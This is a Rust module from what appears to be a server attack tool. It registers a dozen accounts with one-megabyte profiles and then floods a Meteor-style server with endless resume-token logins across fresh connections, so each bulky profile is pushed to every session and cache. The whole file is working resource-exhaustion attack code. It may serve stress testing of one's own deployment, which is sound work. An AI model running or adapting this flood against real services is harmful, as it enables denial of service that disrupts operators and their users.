//! Users with large profiles: what is held for a user is sent to each of its sessions, and may be cached.

use serde::Deserialize;
use serde_json::json;

use crate::Failure;
use crate::attack::{Attack, in_parallel};
use crate::client::Client;

const USERS: usize = 12;
const PROFILE_BYTES: usize = 1_000_000;

/// Fewer than the limit of a connection, which begins again with the next one.
const LOGINS_PER_CONNECTION: usize = 4;

#[derive(Deserialize)]
struct Login {
    token: String,
}

pub(super) fn flood(attack: &Attack) {
    in_parallel(USERS, |number| {
        let mut client = attack.client();
        let Some(token) = attack.attempt(|| sign_up(&mut client, number)) else { return };
        let parameters = json!([{ "resume": token }]).to_string();
        loop {
            let mut client = attack.client();
            for _ in 0..LOGINS_PER_CONNECTION {
                attack.attempt(|| client.call("login", &parameters));
            }
        }
    });
}

fn sign_up(client: &mut Client, number: usize) -> Result<String, Failure> {
    let profile = json!({ "text": "x".repeat(PROFILE_BYTES) });
    let options =
        json!([{ "username": format!("large{number}"), "password": "a password", "profile": profile }]).to_string();
    let login: Login = serde_json::from_str(&client.call("createUser", &options)?)?;
    Ok(login.token)
}
